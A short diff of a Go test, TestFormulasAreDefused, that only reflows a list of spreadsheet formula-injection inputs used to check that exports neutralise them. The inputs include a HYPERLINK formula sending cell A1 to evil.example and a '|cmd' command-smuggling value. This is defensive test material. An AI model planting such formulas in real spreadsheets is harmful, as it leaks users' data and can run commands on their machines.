@@ -18,7 +18,8 @@ import (
 // A text of a stranger is no formula in a spreadsheet, and is read back as it was.
 func TestFormulasAreDefused(t *testing.T) {
 	cells := []string{
-		`=HYPERLINK("https://evil.example/?"&A1,"Glaciers")`, "+49 30 1234", "-omics", "@SUM(1+1)|cmd", "\t=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
+		`=HYPERLINK("https://evil.example/?"&A1,"Glaciers")`, "+49 30 1234", "-omics", "@SUM(1+1)|cmd", "\t=1+1", "\n=1+1",
+		"＝1+1", "＋1", "－1", "＠SUM(1)",
 		"'=1+1", "''-x", "'quoted'", "'", "a=b", "10.5072/a", "", "−5", "1-2",
 	}
 	var out bytes.Buffer
